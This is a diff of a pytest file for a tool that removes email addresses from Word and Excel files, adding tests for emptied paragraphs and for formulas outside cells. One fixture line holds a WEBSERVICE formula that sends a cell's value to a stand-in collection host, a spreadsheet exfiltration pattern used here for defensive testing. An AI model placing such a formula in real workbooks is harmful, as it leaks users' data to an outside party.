@@ -312,6 +312,31 @@ def test_cells(before: str, after: str, policy: dict[str, Any]) -> None:
     assert MAIL not in found["xl/sharedStrings.xml"].decode() or "<v>1</v>" not in before
 
 
+def test_a_document_loses_the_paragraphs_of_dropped_values_and_no_others() -> None:
+    policy = {"rules": [{"rule": "pii.email", "action": "drop-cell"}]}
+    table = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc><w:p><w:r><w:t>Total</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
+    paragraph = "<w:p><w:r><w:t>{}</w:t></w:r>{}</w:p>"
+    before = f"{paragraph.format('Ask ', BOLD.format(MAIL))}{paragraph.format('Regards', '')}{table.format(paragraph.format(MAIL, ''))}"
+    after = f"{paragraph.format('', BOLD.format(''))}{paragraph.format('Regards', '')}{table.format(paragraph.format('', ''))}"
+    assert body(cleaned(building.docx(before), "a.docx", policy)) == after
+
+
+@pytest.mark.parametrize("policy", [STRIP, {"rules": [{"rule": "pii.email", "action": "drop-cell"}]}], ids=["strip", "drop-cell"])
+@pytest.mark.parametrize(
+    "rule",
+    [
+        "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>",
+        "<dataValidations><dataValidation><formula1>{}</formula1><formula2>1</formula2></dataValidation></dataValidations>",
+    ],
+    ids=["conditional format", "rule for input"],
+)
+def test_a_formula_outside_of_a_cell_is_never_empty(rule: str, policy: dict[str, Any] | CleanPolicy) -> None:
+    """A program takes an empty one for damage."""
+    sheet = f"<worksheet><sheetData></sheetData>{rule}</worksheet>"
+    found = parts(cleaned(building.xlsx({"S": sheet.format(f'"{MAIL}" &amp; "b"')}), "a.xlsx", policy))
+    assert found["xl/worksheets/sheet1.xml"].decode() == sheet.format('""')
+
+
 def test_the_chain_of_calculation_goes_with_a_formula() -> None:
     """A program takes a chain with a cell that has no formula for damage. It makes a missing one anew."""
     sheet = '<worksheet><sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://collect.example-host.com/?q="&amp;B1)</f><v>x</v></c></row></sheetData></worksheet>'
